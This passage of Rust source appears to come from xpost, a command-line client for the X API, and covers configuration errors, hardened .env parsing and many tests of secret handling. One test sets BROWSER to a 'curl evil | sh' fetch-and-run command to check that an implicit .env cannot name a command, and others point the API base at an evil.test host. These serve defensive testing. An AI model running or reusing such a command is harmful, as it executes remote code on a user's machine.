        Some(method) if !missing.is_empty() => {
            format!(
                "the configuration is incomplete for {method} (--auth {})",
                method.name()
            )
        }
        _ => String::from("the configuration is incomplete"),
    };
    push_names(&mut message, "missing:", missing);
    push_malformed(&mut message, malformed);
    Error::new(Cause::Config, message).hint(
        "run xpost auth setup to set them up once for every directory, or set them in the environment or in .env (see example.env); or try xpost --sandbox without an account",
    )
}

/// The error when neither way of authorizing is configured: both are named.
fn neither_error(unset_keys: &[&Name], malformed: &[String]) -> Error {
    let mut message = String::from(
        "the configuration is incomplete: xpost needs an OAuth 2.0 app (a consent in a browser once) or OAuth 1.0a keys (no browser: for CI, servers and cron)",
    );
    push_names(
        &mut message,
        "missing, for OAuth 2.0 (--auth oauth2):",
        &[&CLIENT_ID],
    );
    push_names(
        &mut message,
        "or missing, for OAuth 1.0a (--auth oauth1):",
        unset_keys,
    );
    push_malformed(&mut message, malformed);
    Error::new(Cause::Config, message).hint(
        "run xpost auth setup to set either up once for every directory, or set it in the environment or in .env (see example.env); or try xpost --sandbox without an account",
    )
}

fn push_names(message: &mut String, title: &str, names: &[&Name]) {
    if !names.is_empty() {
        message.push_str(&format!("\n  {title}"));
        for name in names {
            message.push_str(&format!("\n    {:<22} {} ({PORTAL})", name.var, name.what));
        }
    }
}

fn push_malformed(message: &mut String, malformed: &[String]) {
    if !malformed.is_empty() {
        message.push_str("\n  malformed:");
        for line in malformed {
            message.push_str(&format!("\n    {line}"));
        }
    }
}

/// The most of a `.env` file xpost reads: far above any real one, and a bound on what a
/// hostile one can make it hold.
const ENV_FILE_LIMIT: u64 = 1 << 20;

fn read_env_file(path: Option<&Path>) -> Result<HashMap<String, String>> {
    let (path, required) = match path {
        Some(path) => (path.to_path_buf(), true),
        None => (Path::new(".env").to_path_buf(), false),
    };
    let mut bytes = Vec::new();
    // Only a regular file is opened: opening a FIFO planted as `.env` would wait for a writer
    // for good, and a device has no end.
    let read = std::fs::metadata(&path)
        .and_then(|metadata| {
            if metadata.is_file() {
                Ok(())
            } else {
                Err(std::io::Error::new(
                    std::io::ErrorKind::InvalidInput,
                    "it is not a regular file",
                ))
            }
        })
        .and_then(|()| std::fs::File::open(&path))
        .and_then(|file| file.take(ENV_FILE_LIMIT + 1).read_to_end(&mut bytes));
    match read {
        Ok(_) => {}
        Err(err) if !required && err.kind() == std::io::ErrorKind::NotFound => {
            return Ok(HashMap::new());
        }
        Err(err) => {
            return Err(Error::new(
                if err.kind() == std::io::ErrorKind::NotFound {
                    Cause::NoInput
                } else {
                    Cause::Config
                },
                format!("cannot read {}: {err}", crate::sanitize::path(&path)),
            ));
        }
    }
    let fail = |why: String| {
        Error::config(format!("{}: {why}", crate::sanitize::path(&path)))
            .hint("each line should read NAME=value; see example.env")
    };
    if bytes.len() as u64 > ENV_FILE_LIMIT {
        return Err(fail(format!(
            "it is larger than {} KiB, which no .env file is",
            ENV_FILE_LIMIT / 1024
        )));
    }
    let text = String::from_utf8(bytes).map_err(|_| fail("it is not UTF-8 text".to_owned()))?;
    parse_env(&text).map_err(fail)
}

/// The variables a `.env` file's text sets. A UTF-8 byte-order mark (which some editors
/// write) is skipped. A line that cannot be parsed is named by its number, never quoted: it
/// may hold a secret.
pub fn parse_env(text: &str) -> std::result::Result<HashMap<String, String>, String> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut vars = HashMap::new();
    for item in dotenvy::from_read_iter(text.as_bytes()) {
        match item {
            Ok((key, value)) => {
                vars.insert(key, value);
            }
            Err(dotenvy::Error::LineParse(line, index)) => {
                let first = line.lines().next().unwrap_or_default().trim_end();
                let number = text.lines().position(|l| l.trim_end() == first);
                return Err(match number {
                    Some(n) => format!("cannot parse line {} (at character {})", n + 1, index + 1),
                    None => format!("cannot parse it near character {index}"),
                });
            }
            Err(_) => return Err("cannot parse it".to_owned()),
        }
    }
    Ok(vars)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::Exit;

    fn lookup<'a>(pairs: &'a [(&'a str, &'a str)]) -> impl Fn(&str) -> Option<String> + 'a {
        move |name| {
            pairs
                .iter()
                .find(|(k, _)| *k == name)
                .map(|(_, v)| v.to_string())
        }
    }

    const FULL: &[(&str, &str)] = &[
        ("X_CLIENT_ID", "client-id"),
        ("X_CLIENT_SECRET", "client-secret"),
        ("X_API_KEY", "ck"),
        ("X_API_SECRET", "cs"),
        ("X_ACCESS_TOKEN", "at"),
        ("X_ACCESS_TOKEN_SECRET", "ats"),
    ];

    #[test]
    fn defaults_apply() {
        let config = Config::from_lookup(lookup(FULL)).unwrap();
        assert_eq!(config.api_base.as_str(), "https://api.x.com/");
        assert_eq!(config.authorize_url.as_str(), DEFAULT_AUTHORIZE_URL);
        assert_eq!(config.redirect_uri.as_str(), DEFAULT_REDIRECT_URI);
        assert_eq!(
            config.client_secret.as_ref().unwrap().expose(),
            "client-secret"
        );
        assert!(config.oauth1.is_some());
        assert!(config.warnings.is_empty());
        assert_eq!(
            config.endpoint("/2/tweets").as_str(),
            "https://api.x.com/2/tweets"
        );
    }

    #[test]
    fn every_missing_name_is_listed_once() {
        let err = Config::from_lookup(lookup(&[("X_REDIRECT_URI", "https://example.com/cb")]))
            .unwrap_err();
        assert_eq!(err.exit(), Exit::Config);
        let text = err.to_string();
        assert!(text.contains("X_CLIENT_ID"), "{text}");
        assert!(
            text.contains("OAuth 2.0 Client ID and Client Secret"),
            "{text}"
        );
        assert!(text.contains("X_REDIRECT_URI"), "{text}");
        assert!(text.contains("must start with http://"), "{text}");
        assert!(text.contains("example.env"), "{text}");
    }

    #[test]
    fn public_client_without_secret() {
        let config = Config::from_lookup(lookup(&[("X_CLIENT_ID", "id")])).unwrap();
        assert!(config.client_secret.is_none());
        assert!(config.oauth1.is_none());
        assert!(config.warnings.is_empty());
    }

    #[test]
    fn partial_oauth1_falls_back_with_a_warning() {
        let config = Config::from_lookup(lookup(&[
            ("X_CLIENT_ID", "id"),
            ("X_API_KEY", "ck"),
            ("X_API_SECRET", "  "),
        ]))
        .unwrap();
        assert!(config.oauth1.is_none());
        assert_eq!(config.warnings.len(), 1);
        assert!(config.warnings[0].contains("X_API_SECRET, X_ACCESS_TOKEN, X_ACCESS_TOKEN_SECRET"));
    }

    #[test]
    fn redirect_must_be_loopback_http_with_port() {
        for (uri, expect) in [
            ("http://example.com:5000/cb", "must point at this machine"),
            ("http://127.0.0.1/cb", "explicit port"),
            ("not a url", "is not a URL"),
        ] {
            let err =
                Config::from_lookup(lookup(&[("X_CLIENT_ID", "id"), ("X_REDIRECT_URI", uri)]))
                    .unwrap_err();
            assert!(err.to_string().contains(expect), "{uri}: {err}");
        }
        for uri in [
            "http://localhost:8080/cb",
            "http://[::1]:5000/oauth/callback",
        ] {
            let config =
                Config::from_lookup(lookup(&[("X_CLIENT_ID", "id"), ("X_REDIRECT_URI", uri)]))
                    .unwrap();
            assert_eq!(config.redirect_uri.as_str(), uri);
        }
    }

    #[test]
    fn endpoints_keep_a_base_path() {
        let config = Config::from_lookup(lookup(&[
            ("X_CLIENT_ID", "id"),
            ("X_API_BASE", "http://127.0.0.1:9000/fake-x/"),
        ]))
        .unwrap();
        assert_eq!(
            config.endpoint("/2/oauth2/token").as_str(),
            "http://127.0.0.1:9000/fake-x/2/oauth2/token"
        );
    }

    #[test]
    fn secrets_do_not_show_in_debug() {
        let config = Config::from_lookup(lookup(FULL)).unwrap();
        let debug = format!("{config:?}");
        for secret in ["client-secret", "\"cs\"", "\"at\"", "\"ats\""] {
            assert!(!debug.contains(secret), "{secret} leaked: {debug}");
        }
    }

    #[test]
    fn env_file_parse_errors_do_not_quote_the_line() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join(".env");
        std::fs::write(&path, "X_CLIENT_SECRET='unterminated-secret-value\n").unwrap();
        let err = read_env_file(Some(&path)).unwrap_err();
        assert_eq!(err.exit(), Exit::Config);
        assert!(
            !err.to_string().contains("unterminated-secret-value"),
            "{err}"
        );
    }

    #[test]
    fn env_file_parse_errors_name_the_line() {
        let text = "# xpost\nX_CLIENT_ID=abc\n\nX_CLIENT_SECRET='unterminated-secret-value\n";
        let why = parse_env(text).unwrap_err();
        assert!(why.starts_with("cannot parse line 4"), "{why}");
        assert!(!why.contains("unterminated"), "{why}");
        let why = parse_env("A=1\nB C\n").unwrap_err();
        assert!(why.starts_with("cannot parse line 2"), "{why}");
    }

    #[test]
    fn env_file_with_a_byte_order_mark_is_read() {
        let vars = parse_env("\u{feff}X_CLIENT_ID=abc\nX_API_KEY=k\n").unwrap();
        assert_eq!(vars.get("X_CLIENT_ID").map(String::as_str), Some("abc"));
        assert_eq!(vars.get("X_API_KEY").map(String::as_str), Some("k"));
    }

    #[test]
    fn a_huge_env_file_is_refused_unread() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join(".env");
        std::fs::write(&path, "#".repeat(ENV_FILE_LIMIT as usize + 10)).unwrap();
        let err = read_env_file(Some(&path)).unwrap_err();
        assert_eq!(err.exit(), Exit::Config);
        assert!(err.to_string().contains("larger than 1024 KiB"), "{err}");
    }

    #[test]
    fn the_error_names_half_set_oauth1_keys_with_the_missing_client_id() {
        let err = Config::from_lookup(lookup(&[("X_API_KEY", "k"), ("X_ACCESS_TOKEN", "1-t")]))
            .unwrap_err();
        let message = err.to_string();
        for name in ["X_CLIENT_ID", "X_API_SECRET", "X_ACCESS_TOKEN_SECRET"] {
            assert!(message.contains(name), "{name} not named: {message}");
        }
        assert!(!message.contains("X_API_KEY "), "{message}");
    }

    #[test]
    fn missing_named_env_file_is_an_error_but_missing_dotenv_is_not() {
        let dir = tempfile::tempdir().unwrap();
        let err = read_env_file(Some(&dir.path().join("nope.env"))).unwrap_err();
        assert_eq!(err.exit(), Exit::NoInput);
    }

    fn env(pairs: &'static [(&'static str, &'static str)]) -> Env {
        Env::from_lookup(move |name| {
            pairs
                .iter()
                .find(|(k, _)| *k == name)
                .map(|(_, v)| v.to_string())
        })
    }

    #[test]
    fn endpoints_and_secrets_must_come_from_one_place() {
        let config = |api: &'static str, consent: &'static str| {
            Config::from_lookup(lookup(&[
                ("X_CLIENT_ID", "id"),
                ("X_API_BASE", api),
                ("X_AUTHORIZE_URL", consent),
            ]))
            .unwrap()
        };
        let file = || Source::File(PathBuf::from(".env"));
        let x = config("https://api.x.com", "https://x.com/i/oauth2/authorize");
        let other = config(
            "http://127.0.0.1:9",
            "http://127.0.0.1:9/i/oauth2/authorize",
        );
        let half = config("http://127.0.0.1:9", "https://x.com/i/oauth2/authorize");
        // X's own endpoints, from anywhere: fine.
        assert!(check_sources(|_| Source::Environment, &x).is_ok());
        // Another server and every secret from one place: fine.
        assert!(check_sources(|_| file(), &other).is_ok());
        assert!(check_sources(|_| Source::Environment, &other).is_ok());
        // Another API base with X's consent page: refused, wherever it came from.
        let err = check_sources(|_| Source::Environment, &half).unwrap_err();
        assert_eq!(err.exit(), Exit::Config);
        assert!(
            err.to_string().contains("X_AUTHORIZE_URL is X's own"),
            "{err}"
        );
        // Another server from a file, a secret from the environment: refused.
        let mixed = |name: &str| {
            if name.starts_with("X_API_BASE") || name == "X_AUTHORIZE_URL" {
                file()
            } else {
                Source::Environment
            }
        };
        let err = check_sources(mixed, &other).unwrap_err();
        assert!(
            err.to_string()
                .contains("X_CLIENT_SECRET comes from the environment"),
            "{err}"
        );
        // The endpoints from two places: refused.
        let split = |name: &str| {
            if name == "X_API_BASE" {
                file()
            } else {
                Source::Environment
            }
        };
        assert!(check_sources(split, &other).is_err());
    }

    #[test]
    fn a_dotenvs_server_needs_its_client_id_and_its_urls_and_home_need_its_server() {
        let other = Config::from_lookup(lookup(&[
            ("X_CLIENT_ID", "id"),
            ("X_API_BASE", "http://127.0.0.1:9"),
            ("X_AUTHORIZE_URL", "http://127.0.0.1:9/i/oauth2/authorize"),
        ]))
        .unwrap();
        let x = Config::from_lookup(lookup(&[("X_CLIENT_ID", "id")])).unwrap();
        let from = |dotenv: &'static [&'static str]| {
            move |name: &str| {
                if dotenv.contains(&name) {
                    Source::DotEnv
                } else if name == "X_CLIENT_ID" {
                    Source::Environment
                } else {
                    Source::Default
                }
            }
        };
        // ./.env names the server, the person's environment gives the client id: refused.
        let err = check_sources(from(&["X_API_BASE", "X_AUTHORIZE_URL"]), &other).unwrap_err();
        assert!(
            err.to_string()
                .contains("X_CLIENT_ID comes from the environment"),
            "{err}"
        );
        // The client id from ./.env beside X's own servers: the ordinary set-up.
        assert!(check_sources(from(&["X_CLIENT_ID"]), &x).is_ok());
        // Where post URLs point, from ./.env without its server: refused; with it: fine.
        let err = check_sources(from(&["X_WEB_BASE"]), &x).unwrap_err();
        assert!(err.to_string().contains("sets X_WEB_BASE"), "{err}");
        let together = from(&["X_API_BASE", "X_AUTHORIZE_URL", "X_CLIENT_ID", "X_WEB_BASE"]);
        assert!(check_sources(together, &other).is_ok());
        assert!(check_dotenv_setting("XPOST_HOME", from(&["XPOST_HOME"])).is_err());
        assert!(check_dotenv_setting("XPOST_HOME", from(&["XPOST_HOME", "X_API_BASE"])).is_ok());
        // From the environment or a file given by name: the person's choice.
        assert!(check_dotenv_setting("XPOST_HOME", |_| Source::Environment).is_ok());
        let named = |_: &str| Source::File(PathBuf::from("web.env"));
        assert!(check_dotenv_setting("X_WEB_BASE", named).is_ok());
    }

    #[test]
    fn the_plan_is_the_flag_else_x_plan_else_self_serve() {
        let env = |value: Option<&'static str>| {
            Env::from_lookup(move |name| {
                (name == "X_PLAN")
                    .then_some(value)
                    .flatten()
                    .map(Into::into)
            })
        };
        assert_eq!(env(None).plan(None).unwrap(), Plan::SelfServe);
        assert_eq!(
            env(Some("Enterprise")).plan(None).unwrap(),
            Plan::Enterprise
        );
        assert_eq!(
            env(Some("pay-per-use")).plan(None).unwrap(),
            Plan::SelfServe
        );
        assert_eq!(
            env(Some("enterprise")).plan(Some(Plan::SelfServe)).unwrap(),
            Plan::SelfServe
        );
        let err = env(Some("free\u{1b}[2J")).plan(None).unwrap_err();
        assert_eq!(err.exit(), crate::error::Exit::Config);
        assert!(err.message().contains("X_PLAN"), "{err}");
        assert!(!err.message().contains('\u{1b}'), "{err}");
    }

    #[test]
    fn an_implicit_dotenv_may_not_name_a_command() {
        let mut vars: HashMap<String, String> = [
            ("BROWSER", "sh -c 'curl evil | sh'"),
            ("XPOST_HOME", "/home/me/xpost"),
            ("XPOST_INSECURE_STORAGE", "1"),
            ("X_CLIENT_ID", "id"),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .collect();
        assert_eq!(
            only_named_files(&mut vars),
            ["BROWSER", "XPOST_INSECURE_STORAGE"]
        );
        assert!(!vars.contains_key("BROWSER"));
        assert_eq!(vars.len(), 2, "the rest is kept: {vars:?}");
    }

    #[test]
    fn state_dir() {
        let at = |pairs| env(pairs).state_dir().unwrap();
        assert_eq!(at(&[("XPOST_HOME", "/a"), ("HOME", "/h")]), Path::new("/a"));
        assert_eq!(
            at(&[("XDG_STATE_HOME", "/s"), ("HOME", "/h")]),
            Path::new("/s/xpost")
        );
        assert_eq!(
            at(&[("XDG_STATE_HOME", "rel"), ("HOME", "/h")]),
            Path::new("/h/.local/state/xpost")
        );
        assert_eq!(
            at(&[("XPOST_HOME", ""), ("HOME", "/h")]),
            Path::new("/h/.local/state/xpost")
        );
        assert!(env(&[]).state_dir().is_err());
    }

    #[test]
    fn browser() {
        let browser = env(&[("BROWSER", "firefox")]).browser();
        assert_eq!(browser.command.as_deref(), Some("firefox"));
        assert!(browser.available());
        assert!(env(&[("BROWSER", " ")]).browser().command.is_none());
        if cfg!(target_os = "linux") {
            assert!(!env(&[]).browser().available());
            assert!(
                env(&[("WAYLAND_DISPLAY", "wayland-0")])
                    .browser()
                    .available()
            );
        }
    }

    #[test]
    fn the_method_follows_the_configuration_never_the_situation() {
        use Method::*;
        // Asked for (--auth or XPOST_AUTH): that one, whatever is configured.
        for client_id in [false, true] {
            for keys in [false, true] {
                assert_eq!(choose_method(Some(OAuth1), client_id, keys), Some(OAuth1));
                assert_eq!(choose_method(Some(OAuth2), client_id, keys), Some(OAuth2));
            }
        }
        // Not asked: OAuth 2.0 when X_CLIENT_ID is set, even with the four keys.
        assert_eq!(choose_method(None, true, true), Some(OAuth2));
        assert_eq!(choose_method(None, true, false), Some(OAuth2));
        assert_eq!(choose_method(None, false, true), Some(OAuth1));
        assert_eq!(choose_method(None, false, false), None);
    }

    #[test]
    fn ci_is_any_value_but_empty_0_or_false() {
        for on in ["true", "1", "yes", "TRUE", "github", " true "] {
            assert!(is_ci(Some(on)), "{on:?}");
        }
        for off in ["", "  ", "0", "false", "False", "FALSE"] {
            assert!(!is_ci(Some(off)), "{off:?}");
        }
        assert!(!is_ci(None));
        assert!(env(&[("CI", "true")]).ci());
        assert!(!env(&[("CI", "false")]).ci());
        assert!(!env(&[]).ci());
    }

    #[test]
    fn insecure_storage_is_on_off_or_an_error() {
        for on in ["1", "true", "YES", " on "] {
            assert_eq!(switch(Some(on)), Ok(true), "{on:?}");
        }
        for off in ["", " ", "0", "false", "No", "off"] {
            assert_eq!(switch(Some(off)), Ok(false), "{off:?}");
        }
        assert_eq!(switch(None), Ok(false));
        assert_eq!(switch(Some("maybe")), Err("maybe".to_owned()));
        let on = env(&[("XPOST_INSECURE_STORAGE", "1")]);
        assert!(on.insecure_storage(false).unwrap());
        let off = env(&[("XPOST_INSECURE_STORAGE", "no")]);
        assert!(!off.insecure_storage(false).unwrap());
        // --insecure-storage wins over an "off".
        assert!(off.insecure_storage(true).unwrap());
        assert!(!env(&[]).insecure_storage(false).unwrap());
        let junk = env(&[("XPOST_INSECURE_STORAGE", "\u{1b}[2Jkeyring please")]);
        let err = junk.insecure_storage(false).unwrap_err();
        assert_eq!(err.exit(), Exit::Config);
        assert!(err.to_string().contains("XPOST_INSECURE_STORAGE"), "{err}");
        assert!(!err.to_string().contains('\u{1b}'), "{err}");
    }

    const KEYS: &[(&str, &str)] = &[
        ("X_API_KEY", "ck"),
        ("X_API_SECRET", "cs"),
        ("X_ACCESS_TOKEN", "1-at"),
        ("X_ACCESS_TOKEN_SECRET", "ats"),
    ];

    #[test]
    fn the_four_keys_alone_configure_oauth1() {
        let config = Config::from_lookup(lookup(KEYS)).unwrap();
        assert_eq!(config.method, Method::OAuth1);
        assert!(config.client_id.is_none());
        assert!(config.oauth1.is_some());
        // With X_CLIENT_ID too, OAuth 2.0 unless asked otherwise.
        assert_eq!(
            Config::from_lookup(lookup(FULL)).unwrap().method,
            Method::OAuth2
        );
        let asked = Config::resolve(lookup(FULL), Some(Method::OAuth1)).unwrap();
        assert_eq!(asked.method, Method::OAuth1);
        let mut with_env: Vec<(&str, &str)> = FULL.to_vec();
        with_env.push(("XPOST_AUTH", "oauth1"));
        assert_eq!(
            Config::from_lookup(lookup(&with_env)).unwrap().method,
            Method::OAuth1
        );
        // --auth wins over XPOST_AUTH.
        assert_eq!(
            Config::resolve(lookup(&with_env), Some(Method::OAuth2))
                .unwrap()
                .method,
            Method::OAuth2
        );
    }

    #[test]
    fn an_asked_method_needs_its_own_names() {
        let err = Config::resolve(lookup(KEYS), Some(Method::OAuth2)).unwrap_err();
        assert_eq!(err.exit(), Exit::Config);
        assert!(err.to_string().contains("X_CLIENT_ID"), "{err}");
        let err = Config::resolve(
            lookup(&[("X_CLIENT_ID", "id"), ("X_API_KEY", "k")]),
            Some(Method::OAuth1),
        )
        .unwrap_err();
        let text = err.to_string();
        for name in ["X_API_SECRET", "X_ACCESS_TOKEN", "X_ACCESS_TOKEN_SECRET"] {
            assert!(text.contains(name), "{name}: {text}");
        }
        assert!(!text.contains("X_CLIENT_ID"), "{text}");
        let err = Config::from_lookup(lookup(&[("X_CLIENT_ID", "id"), ("XPOST_AUTH", "oauth3")]))
            .unwrap_err();
        assert!(err.to_string().contains("XPOST_AUTH"), "{err}");
    }

    #[test]
    fn nothing_configured_names_both_ways() {
        let text = Config::from_lookup(lookup(&[])).unwrap_err().to_string();
        for name in [
            "X_CLIENT_ID",
            "X_API_KEY",
            "X_API_SECRET",
            "X_ACCESS_TOKEN",
            "X_ACCESS_TOKEN_SECRET",
            "--auth oauth1",
            "--auth oauth2",
        ] {
            assert!(text.contains(name), "{name}: {text}");
        }
    }

    fn stored(settings: &[(&str, &str)], secrets: &[(&str, &str)]) -> Stored {
        let secrets: HashMap<String, String> = secrets
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect();
        Stored {
            name: "default".to_owned(),
            path: PathBuf::from("/home/me/.config/xpost/config.json"),
            settings: settings
                .iter()
                .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
                .collect(),
            secret_names: secrets.keys().cloned().collect(),
            secrets_at: Source::Keyring("service xpost, user app-default@api.x.com/0".to_owned()),
            read_secrets: Box::new(move || Ok(secrets.clone())),
            read: OnceLock::new(),
        }
    }

    #[test]
    fn a_stored_app_fills_in_what_is_unset_and_says_so() {
        let env = env(&[("HOME", "/h")]).with_stored(stored(
            &[("X_API_KEY", "ck")],
            &[
                ("X_API_SECRET", "cs"),
                ("X_ACCESS_TOKEN", "1-at"),
                ("X_ACCESS_TOKEN_SECRET", "ats"),
            ],
        ));
        let config = env.config().unwrap();
        assert_eq!(config.method, Method::OAuth1);
        assert!(matches!(env.source("X_API_KEY"), Source::Setup(_)));
        assert!(matches!(env.source("X_API_SECRET"), Source::Keyring(_)));
        assert!(
            env.source("X_API_SECRET")
                .to_string()
                .starts_with("the system keyring")
        );
        assert_eq!(env.source("X_CLIENT_ID"), Source::Default);
    }

    #[test]
    fn a_stored_app_goes_to_no_other_server_and_its_secret_with_no_other_id() {
        let higher = |pairs: &'static [(&'static str, &'static str)]| {
            move |name: &str| {
                pairs
                    .iter()
                    .find(|(k, _)| *k == name)
                    .map(|(_, v)| (*v).to_owned())
            }
        };
        let at_x = |_: &str| None;
        let sandbox =
            |name: &str| (name == "X_API_BASE").then(|| "http://127.0.0.1:8700".to_owned());
        // A ./.env naming its own server: nothing of the user's app.
        assert!(stored_names(higher(&[("X_API_BASE", "http://evil.test")]), at_x).is_empty());
        assert!(
            stored_names(higher(&[("X_AUTHORIZE_URL", "http://evil.test/a")]), at_x).is_empty()
        );
        // The same server, or none named: the app.
        let all = stored_names(higher(&[("X_API_BASE", "https://api.x.com/")]), at_x);
        assert!(all.contains(&"X_CLIENT_SECRET") && all.contains(&"X_API_SECRET"));
        assert!(stored_names(higher(&[]), at_x).contains(&"X_CLIENT_SECRET"));
        // An app kept for the sandbox, with X named (or nothing named, which is X): not used
        // when X is named.
        assert!(stored_names(higher(&[("X_API_BASE", "https://api.x.com")]), sandbox).is_empty());
        // Another client id: the stored secret stays home; the four keys still fill in.
        let names = stored_names(higher(&[("X_CLIENT_ID", "theirs")]), at_x);
        assert!(!names.contains(&"X_CLIENT_SECRET") && !names.contains(&"X_CLIENT_ID"));
        assert!(names.contains(&"X_ACCESS_TOKEN_SECRET"));
        // One of the four keys set: none of the stored four.
        let names = stored_names(higher(&[("X_ACCESS_TOKEN", "1-t")]), at_x);
        assert!(!names.contains(&"X_API_SECRET"));
        assert!(names.contains(&"X_CLIENT_SECRET"));
    }

    #[test]
    fn a_stored_app_for_another_server_keeps_its_secrets_from_one_named_elsewhere() {
        // The user's app for the sandbox, X_API_SECRET from the environment: refused, as a
        // secret must come from where its server is named.
        let env = env(&[("X_API_SECRET", "mine")]).with_stored(stored(
            &[
                ("X_CLIENT_ID", "id"),
                ("X_API_BASE", "http://127.0.0.1:8700"),
                (
                    "X_AUTHORIZE_URL",
                    "http://127.0.0.1:8700/i/oauth2/authorize",
                ),
            ],
            &[],
        ));
        let err = env.config().unwrap_err();
        assert!(
            err.to_string()
                .contains("X_API_SECRET comes from the environment"),
            "{err}"
        );
        // All of it from the set-up: fine, the keyring and the file being one place.
        let env = Env::from_lookup(|_| None).with_stored(stored(
            &[
                ("X_CLIENT_ID", "id"),
                ("X_API_BASE", "http://127.0.0.1:8700"),
                (
                    "X_AUTHORIZE_URL",
                    "http://127.0.0.1:8700/i/oauth2/authorize",
                ),
            ],
            &[("X_CLIENT_SECRET", "cs")],
        ));
        let config = env.config().unwrap();
        assert_eq!(config.client_secret.unwrap().expose(), "cs");
    }

    #[test]
    fn an_unreadable_keyring_is_an_error_only_when_its_secrets_are_needed() {
        let mut app = stored(&[("X_CLIENT_ID", "id")], &[("X_CLIENT_SECRET", "cs")]);
        app.read_secrets = Box::new(|| Err("it is locked".to_owned()));
        let err = Env::from_lookup(|_| None)
            .with_stored(app)
            .config()
            .unwrap_err();
        assert!(err.to_string().contains("it is locked"), "{err}");
        let mut app = stored(&[("X_CLIENT_ID", "id")], &[("X_CLIENT_SECRET", "cs")]);
        app.read_secrets = Box::new(|| Err("it is locked".to_owned()));
        let theirs = env(&[("X_CLIENT_ID", "theirs")]).with_stored(app);
        assert_eq!(theirs.config().unwrap().client_id(), "theirs");
    }
}
